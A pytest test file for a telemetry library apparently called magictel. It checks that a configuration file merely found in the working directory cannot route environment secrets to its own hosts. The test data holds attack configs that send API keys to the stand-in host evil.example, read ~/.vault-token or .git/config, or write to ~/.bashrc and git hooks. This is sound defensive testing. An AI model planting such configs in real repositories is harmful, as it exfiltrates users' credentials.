"""Whose secrets a config file may send where: a secret of yours goes only to an address of yours."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Annotated, ClassVar

import msgspec
import pytest

from magictel.errors import SettingsError
from magictel.exporters.elasticsearch.settings import ElasticsearchSettings
from magictel.exporters.file import FileSettings
from magictel.exporters.prometheus_remote_write.settings import PrometheusRemoteWriteSettings
from magictel.secrets.secret import Secret
from magictel.settings.fields import fields_of
from magictel.settings.file import parse
from magictel.settings.load import Resolved, resolve_settings
from magictel.settings.locate import find
from magictel.settings.model import ExporterSettings, option
from magictel.settings.origin import Origin
from magictel.settings.reading import UnusableSettings

URL = "https://es.staging.example.net:9243"
CODE = "config.untrusted-file"


class SiteSettings(ExporterSettings, frozen=True, kw_only=True, forbid_unknown_fields=True):
    """A plugin whose author says nothing of trust."""

    env_prefix: ClassVar[str] = "DD_"
    site: Annotated[str, option("Region of the service.", example="datadoghq.eu")] = "datadoghq.com"
    port: Annotated[int, option("Port of the service.")] = 443
    api_key: Annotated[Secret | None, option("The key.")] = None
    tags: Annotated[dict[str, str], option("Static tags.")] = msgspec.field(default_factory=dict)
    interval: Annotated[float, option("How often.", unit="seconds")] = 10.0


MODELS: Mapping[str, type[ExporterSettings]] = {
    "elasticsearch": ElasticsearchSettings,
    "prometheus-remote-write": PrometheusRemoteWriteSettings,
    "file": FileSettings,
    "dd": SiteSettings,
}


def use(
    text: str,
    *,
    exporter: str = "elasticsearch",
    name: str = "m",
    named: bool = False,
    folder: Path = Path("/work-folder"),
    sets: Mapping[str, str] | None = None,
    later: bool = False,
    **environment: str,
) -> Resolved[ExporterSettings]:
    """The settings of a target whose table holds `text`, in a file that was only picked up."""
    file = parse(f'[targets.{name}]\nexporter = "{exporter}"\n{text}\n', folder / "magictel.toml", "magictel.toml")
    return resolve_settings(
        name,
        exporter,
        MODELS[exporter],
        environment=environment,
        config=replace(file, named=named),
        overrides={key: (value, Origin("option", f"--set {key}")) for key, value in (sets or {}).items()},
        allow_missing_env=later,
        folder=folder,
    )


def refused(text: str, **given: object) -> SettingsError:
    with pytest.raises(UnusableSettings) as caught:
        use(text, **given)  # type: ignore[arg-type]
    assert caught.value.code == CODE, caught.value.message
    return caught.value


def codes(text: str, *, named: bool, **environment: str) -> list[str]:
    """What is wrong with a target's settings, nothing being right as well."""
    try:
        use(text, named=named, **environment)
    except UnusableSettings as failure:
        return [failure.code for failure in failure.every]
    return []


EVIL = 'url = "http://evil.example:1"\n'
ATTACKS: Mapping[str, tuple[str, Mapping[str, str]]] = {
    "the environment's key to the file's address": (EVIL, {"ELASTICSEARCH_API_KEY": "a:b"}),
    "the environment's login": (EVIL, {"ELASTICSEARCH_USERNAME": "u", "ELASTICSEARCH_PASSWORD": "pass"}),
    "the environment's headers": (EVIL, {"ELASTICSEARCH_HEADERS": "X-A=b"}),
    "the environment's client certificate": (EVIL, {"ELASTICSEARCH_CLIENT_CERT_FILE": "c.pem"}),
    "the target's own variable": (EVIL, {"MAGICTEL_M__API_KEY": "a:b"}),
    "one of several nodes": (f'url = ["{URL}", "http://evil.example:1"]', {"ELASTICSEARCH_API_KEY": "a:b"}),
    "a cloud of the file's": ('cloud_id = "x:ZXZpbCRhJGI="', {"ELASTICSEARCH_API_KEY": "a:b"}),
    "any variable, in a header": (EVIL + 'headers = { "X-A" = "${AWS_KEY}" }', {"AWS_KEY": "k"}),
    "any variable, in the key": (EVIL + 'api_key = "${AWS_KEY}"', {"AWS_KEY": "a:b"}),
    "any variable, as a default's rival": (EVIL + 'api_key = "${AWS_KEY:-a:b}"', {"AWS_KEY": "c:d"}),
    "any variable, in the address's path": ('url = "http://evil.example:1/${AWS_KEY}"', {"AWS_KEY": "k"}),
    "any variable, in the host": ('url = "http://${AWS_KEY}.evil.example"', {"AWS_KEY": "k"}),
    "any variable, in the index": (EVIL + 'index = "m-${AWS_KEY}"', {"AWS_KEY": "k"}),
    "any variable, in the pipeline": (EVIL + 'pipeline = "${AWS_KEY}"', {"AWS_KEY": "k"}),
    "any variable, as user": (EVIL + 'username = "${AWS_KEY}"\npassword = "x"', {"AWS_KEY": "k"}),
    "any variable, in dropped attributes": (EVIL + 'drop_attributes = ["${AWS_KEY}"]', {"AWS_KEY": "k"}),
    "a login in the file's address beside your key": (
        'url = "https://u:p@evil.example"',
        {"ELASTICSEARCH_API_KEY": "a:b"},
    ),
    "a default instead of the variable": (
        'url = "${STAGING_ES_URL:-http://evil.example}"\napi_key = "${KEY}"',
        {"KEY": "a:b"},
    ),
    "a default instead of an empty variable": (
        'url = "${STAGING_ES_URL:-http://evil.example}"\napi_key = "${KEY}"',
        {"KEY": "a:b", "STAGING_ES_URL": ""},
    ),
    "a variable that is only a scheme": (
        'url = "${X_URL}//evil.example"\napi_key = "${KEY}"',
        {"KEY": "a:b", "X_URL": "https:"},
    ),
    "a variable before an @": ('url = "https://${X_URL}@evil.example"', {"X_URL": "u:p"}),
    "a variable before the file's domain": (
        'url = "${X_URL}.evil.example"\napi_key = "${KEY}"',
        {"KEY": "a:b", "X_URL": "https://es"},
    ),
    "another address behind the variable's path": (
        'url = "${STAGING_ES_URL}/,http://evil.example:1"\napi_key = "${KEY}"',
        {"KEY": "a:b", "STAGING_ES_URL": URL},
    ),
    "another address behind the backend's own variable": (
        'url = "${ELASTICSEARCH_URL}/es,http://evil.example:1"',
        {"ELASTICSEARCH_API_KEY": "a:b", "ELASTICSEARCH_URL": URL},
    ),
    "a commit's title as address": (
        'url = "${CI_COMMIT_TITLE}"\napi_key = "${KEY}"',
        {"KEY": "a:b", "CI_COMMIT_TITLE": "http://evil.example"},
    ),
    "npm's package data as address": (
        'url = "${npm_package_config_url}"\napi_key = "${KEY}"',
        {"KEY": "a:b", "npm_package_config_url": "http://evil.example"},
    ),
    "a proxy before your address": (
        'proxy = "http://evil.example:1"',
        {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"},
    ),
    "a proxy before an address with a login": (
        'proxy = "http://evil.example:1"',
        {"ELASTICSEARCH_URL": "https://u:pass@es.example.net"},
    ),
    "a host header": (
        'headers = { Host = "evil.example" }',
        {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"},
    ),
    "a host header by a variable": (
        'headers = { Host = "${CI_TITLE}" }',
        {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b", "CI_TITLE": "evil.example"},
    ),
    "a fingerprint": (f'ca_fingerprint = "{"ab" * 32}"', {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
    "an authority": ('ca_file = "ca.pem"', {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
    "no verification": ("verify = false", {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
    "no verification, as a text": ('verify = "no"', {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
    "another name": ('server_name = "evil.example"', {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
    "around your proxy": ("trust_env = false", {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
    "a variable to an address that nobody set": ('headers = { X = "${AWS_KEY}" }', {"AWS_KEY": "k"}),
    "no verification for a team's variables": (
        'url = "${ES_URL}"\napi_key = "${ES_KEY}"\nverify = false',
        {"ES_URL": URL, "ES_KEY": "a:b"},
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused_by_name_and_only_naming_the_file_lets_it_pass(attack: str) -> None:
    text, environment = ATTACKS[attack]
    failure = refused(text, **environment)
    assert failure.origin is not None
    assert failure.origin.startswith("magictel.toml:")
    assert failure.origin in failure.message
    assert "export MAGICTEL_CONFIG=/work-folder/magictel.toml" in (failure.remedy or "")
    shown = failure.message + (failure.remedy or "")
    assert not any(value in shown for value in environment.values() if len(value) > 2)
    assert CODE not in codes(text, named=True, **environment)


def test_the_sentence_names_line_variable_and_host() -> None:
    failure = refused(EVIL, ELASTICSEARCH_API_KEY="s3cr3t:key")
    assert failure.message == (
        "url: refused: magictel.toml:3 would send ELASTICSEARCH_API_KEY to evil.example:1, "
        "and this file was only found in the working directory, not named"
    )
    failure = refused("verify = false", ELASTICSEARCH_URL=URL, ELASTICSEARCH_API_KEY="s3cr3t:key")
    assert (
        "would send ELASTICSEARCH_API_KEY to es.staging.example.net:9243 under its own verify = false"
        in failure.message
    )


def test_remote_write_and_its_address_for_queries() -> None:
    environment = {"PROMETHEUS_REMOTE_WRITE_URL": URL, "PROMETHEUS_REMOTE_WRITE_BEARER_TOKEN": "token-1"}
    text = 'query_url = "http://evil.example:1"'
    assert refused(text, exporter="prometheus-remote-write", **environment).message.startswith("query_url: ")
    text = 'url = "http://evil.example:1/api/v1/write"'
    assert refused(text, exporter="prometheus-remote-write", PROMETHEUS_REMOTE_WRITE_USERNAME="token-as-user")


def test_the_command_lines_own_secret_does_not_go_to_the_files_address() -> None:
    assert "--set api_key" in refused(EVIL, sets={"api_key": "a:b"}).message
    assert use(EVIL, sets={"api_key": "a:b", "url": URL})


def test_one_entry_of_yours_in_a_table_of_the_files() -> None:
    text = EVIL + 'headers = { "X-Tenant" = "blue" }'
    assert "MAGICTEL_M__HEADERS.X-A" in refused(text, **{"MAGICTEL_M__HEADERS.X-A": "k"}).message
    assert refused('headers = { Host = "evil.example" }', sets={"headers.X-A": "k"}, ELASTICSEARCH_URL=URL)


def test_the_target_that_an_exporters_name_implies_stays_at_its_variables_address() -> None:
    failure = refused(EVIL, name="elasticsearch", ELASTICSEARCH_URL=URL)
    assert "would send to evil.example:1 instead of to ELASTICSEARCH_URL" in failure.message
    assert use(EVIL, name="elasticsearch")
    assert use(EVIL, name="canary", ELASTICSEARCH_URL=URL)
    assert use(EVIL, name="elasticsearch", named=True, ELASTICSEARCH_URL=URL)


def test_nor_is_that_target_another_exporters_by_the_file() -> None:
    write = 'url = "http://evil.example:1/api/v1/write"'
    failure = refused(write, exporter="prometheus-remote-write", name="elasticsearch", ELASTICSEARCH_URL=URL)
    assert "would send to evil.example:1 instead of to ELASTICSEARCH_URL" in failure.message
    assert use(write, exporter="prometheus-remote-write", name="staging", STAGING_URL=URL)
    assert use(write, exporter="prometheus-remote-write", name="elasticsearch")


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("http://a.example:1/x,http://b.example", "to a.example:1, b.example,"),
        ("${CI_TITLE}", "would send ${KEY} to ${CI_TITLE},"),
        ("http://u:p,pw@a.example:1", "to a.example:1,"),
    ],
)
def test_every_address_of_the_file_is_named_whole(url: str, shown: str) -> None:
    message = refused(f'url = "{url}"\napi_key = "${{KEY}}"', KEY="a:b", CI_TITLE="http://evil.example").message
    assert shown in message
    assert "p,pw" not in message


@pytest.mark.parametrize(
    ("text", "environment"),
    [
        (EVIL + 'timeout = "3s"\nindex = "team-a"', {}),
        (EVIL + 'api_key = "their:own"\nverify = false\nheaders = { X = "y" }', {}),
        ('url = "https://their:own@es.example.net"', {}),
        ('url = "${STAGING_ES_URL}"\napi_key = "${STAGING_ES_KEY}"', {"STAGING_ES_URL": URL, "STAGING_ES_KEY": "a:b"}),
        ('url = "${STAGING_ES_URL}/es"\napi_key = "${KEY}"', {"STAGING_ES_URL": URL, "KEY": "a:b"}),
        ('url = ["${A_URL}", "${B_URL}"]\napi_key = "${KEY}"', {"A_URL": URL, "B_URL": URL, "KEY": "a:b"}),
        ('url = "${ES_NODES}"\napi_key = "${KEY}"', {"ES_NODES": f"{URL},{URL}", "KEY": "a:b"}),
        ('url = "${ES_URL:-http://localhost:9200}"\napi_key = "${KEY}"', {"ES_URL": URL, "KEY": "a:b"}),
        (
            'url = "${ES_URL}"\nca_file = "${ES_CA_FILE}"\napi_key = "${K}"',
            {"ES_URL": URL, "ES_CA_FILE": "/ca", "K": "a:b"},
        ),
        ('url = "${ES_URL}"\nheaders = { Authorization = "${ES_AUTH}" }', {"ES_URL": URL, "ES_AUTH": "Basic x"}),
        ('url = "${ES_URL}"\nindex = "m-${STAGE}"\napi_key = "${K}"', {"ES_URL": URL, "STAGE": "a", "K": "a:b"}),
        ('url = "${ES_URL}"', {"ES_URL": "https://u:pass@es.example.net"}),
        ('index = "team-a"\ntimeout = 3', {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
        ('api_key = "${STAGING_KEY}"', {"ELASTICSEARCH_URL": URL, "STAGING_KEY": "a:b"}),
        ('api_key = "${STAGING_KEY}"', {"ELASTICSEARCH_CLOUD_ID": "x:ZXUuYXdzJGEkYg==", "STAGING_KEY": "a:b"}),
        ('api_key = "${STAGING_KEY}"', {"MAGICTEL_M__URL": URL, "STAGING_KEY": "a:b"}),
        (f'url = "{URL}"\nverify = true', {"ELASTICSEARCH_URL": URL, "ELASTICSEARCH_API_KEY": "a:b"}),
        (f'url = "{URL}"', {"ELASTICSEARCH_URL": f"https://a:1,{URL}", "ELASTICSEARCH_API_KEY": "a:b"}),
        ('url = "http://localhost:9200"\napi_key = "${ELASTICSEARCH_API_KEY}"', {"ELASTICSEARCH_API_KEY": "a:b"}),
        (EVIL + 'timeout = "${T}"\ncompression = "${C}"', {"T": "3s", "C": "none"}),
        (
            'url = "${ES_URL}"\nproxy = "${HTTPS_PROXY}"\napi_key = "${K}"',
            {"ES_URL": URL, "HTTPS_PROXY": "http://p:1", "K": "a:b"},
        ),
    ],
)
def test_what_a_team_writes_into_its_repository_works_without_a_word(text: str, environment: dict[str, str]) -> None:
    assert use(text, **environment)


def test_a_variable_that_is_not_set_is_its_own_mistake() -> None:
    with pytest.raises(SettingsError) as caught:
        use('url = "${STAGING_ES_URL}"\napi_key = "${KEY}"', KEY="a:b")
    assert caught.value.code == "config.url.unexpanded-variable"
    assert use('url = "${STAGING_ES_URL}"\napi_key = "${KEY}"', later=True)
    assert use('url = "${STAGING_ES_URL}/es"\napi_key = "${KEY}"', later=True)


def test_what_will_be_refused_is_refused_while_variables_are_given_later() -> None:
    assert refused(EVIL + 'api_key = "${KEY}"', later=True)


def test_a_plugins_option_that_says_nothing_is_taken_to_decide_where_secrets_go() -> None:
    for text in ('site = "evil.example"', "port = 4443", 'tags = { a = "b" }'):
        assert refused(text, exporter="dd", DD_API_KEY="a-key")
        assert use(text, exporter="dd")
    assert use('interval = "3s"\nport = 443', exporter="dd", DD_API_KEY="a-key")
    assert use('site = "${TEAM_SITE}"\napi_key = "${K}"', exporter="dd", TEAM_SITE="datadoghq.eu", K="a-key")
    assert refused('site = "${CI_TITLE}"', exporter="dd", CI_TITLE="evil.example", DD_API_KEY="a-key")


def test_which_options_of_the_own_exporters_decide_where_secrets_go() -> None:
    http = {"ca_file", "ca_fingerprint", "headers", "proxy", "server_name", "trust_env", "verify"}
    expected: dict[str, set[str]] = {
        "elasticsearch": {"url", "cloud_id"} | http,
        "prometheus-remote-write": {"url", "query_url"} | http,
        "file": set(),
    }
    for name, keys in expected.items():
        assert {field.key for field in fields_of(MODELS[name]) if field.routes} == keys


# ---- files ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    home = tmp_path / "clone"
    (home / ".git").mkdir(parents=True)
    (home / "sub").mkdir()
    for path in ("token", ".env", ".git/config", "sub/token", "../outside"):
        (home / path).write_text("s.t0ken")
        (home / path).chmod(0o600)
    (home / "link").symlink_to("../outside")
    (home / "up").symlink_to("..")
    (home / "visible").symlink_to(".env")
    return home


@pytest.mark.parametrize(
    "path",
    ["~/.vault-token", "~/token", "../outside", "sub/../../outside", "link", "up/outside", ".env", ".git/config", "visible",
     "/etc/hostname", "/dev/fd/0", "./.env"],
)  # fmt: skip
def test_a_secret_file_elsewhere_or_hidden_is_refused(folder: Path, path: str) -> None:
    for text in (
        f'headers = "X=file:{path}"',
        f'headers = "A=b, X=${{NONE:-file:{path}}}"',
        f'bearer_token = "file:{path}"',
        f'headers = {{ X = "file: {path}" }}',
        f'bearer_token = "${{X:-file:{path}}}"',
    ):
        failure = refused(EVIL + text, folder=folder, HOME=str(folder))
        assert "s.t0ken" not in failure.message
        assert path in failure.message


@pytest.mark.parametrize("path", ["token", "./token", "sub/token", "sub/../token"])
def test_a_secret_file_in_the_folder_is_the_files_own(folder: Path, path: str) -> None:
    assert use(EVIL + f'bearer_token = "file:{path}"', folder=folder)
    assert use(EVIL + f'bearer_token = "file:{folder}/{path}"', folder=folder)


def test_a_variable_of_yours_may_lead_to_any_file(folder: Path) -> None:
    text = 'url = "${ES_URL}"\nbearer_token = "${ES_TOKEN}"'
    assert use(text, folder=folder / "sub", ES_URL=URL, ES_TOKEN=f"file:{folder}/token")


@pytest.mark.parametrize("key", ["ca_file", "client_cert_file"])
def test_other_files_lie_in_the_folder_too(folder: Path, key: str) -> None:
    assert refused(EVIL + f'{key} = "/etc/ssl/ca.pem"', folder=folder)
    assert refused(EVIL + f'{key} = "link"', folder=folder)
    assert refused(EVIL + f'{key} = "${{CERTS}}/ca.pem"', folder=folder, CERTS="sub")
    assert use(EVIL + f'{key} = "sub/ca.pem"', folder=folder)


@pytest.mark.parametrize(
    "path", ["~/.bashrc", "/tmp/metrics.jsonl", "../metrics.jsonl", ".git/hooks/pre-commit", "${GITHUB_PATH}"]
)
def test_the_file_exporter_writes_inside_the_folder_only(folder: Path, path: str) -> None:
    assert refused(f'path = "{path}"', exporter="file", folder=folder, GITHUB_PATH="/x/path")
    assert use('path = "metrics.jsonl"', exporter="file", folder=folder)
    assert use('path = "${MAGICTEL_FILE_PATH}"', exporter="file", folder=folder, MAGICTEL_FILE_PATH="/var/log/m.jsonl")


def test_a_file_is_named_by_option_or_variable_and_not_by_lying_there(tmp_path: Path) -> None:
    (tmp_path / "real.toml").write_text("[targets.a]\nexporter = 'file'\n")
    (tmp_path / "magictel.toml").symlink_to("real.toml")

    def named(option_: str | None, environment: Iterable[tuple[str, str]] = ()) -> bool:
        file = find(option_, dict(environment), tmp_path)
        assert file is not None
        return file.named

    assert not named(None)
    assert not named(None, {"MAGICTEL_CONFIG": " "}.items())
    assert named("magictel.toml")
    assert named(None, {"MAGICTEL_CONFIG": "magictel.toml"}.items())


@pytest.mark.parametrize(
    "value", ["1979-05-27", "07:32:00", "nan", "inf", "[1, 2]", "{ a = 1 }", "[[]]", '""', "true", "0x10", '"\\u0000"']
)
def test_a_value_of_any_shape_is_a_sentence(value: str) -> None:
    for key in ("url", "headers", "verify", "index", "timeout", "api_key", "ca_file", "drop_attributes", "proxy"):
        codes(f"{key} = {value}", named=False, ELASTICSEARCH_API_KEY="a:b")
        codes(f"{key} = {value}", named=True, ELASTICSEARCH_API_KEY="a:b")


def test_a_private_key_of_yours_by_a_variable_is_a_secret_too() -> None:
    assert (
        "${X_CLIENT_KEY_FILE}"
        in refused(EVIL + 'client_key_file = "${X_CLIENT_KEY_FILE}"', X_CLIENT_KEY_FILE="/k").message
    )


def test_a_login_in_the_files_address_is_not_shown() -> None:
    failure = refused('url = "https://u:s3cr3t/x@evil.example/p"', ELASTICSEARCH_API_KEY="a:b")
    assert "s3cr3t" not in failure.message
    assert "evil.example" in failure.message
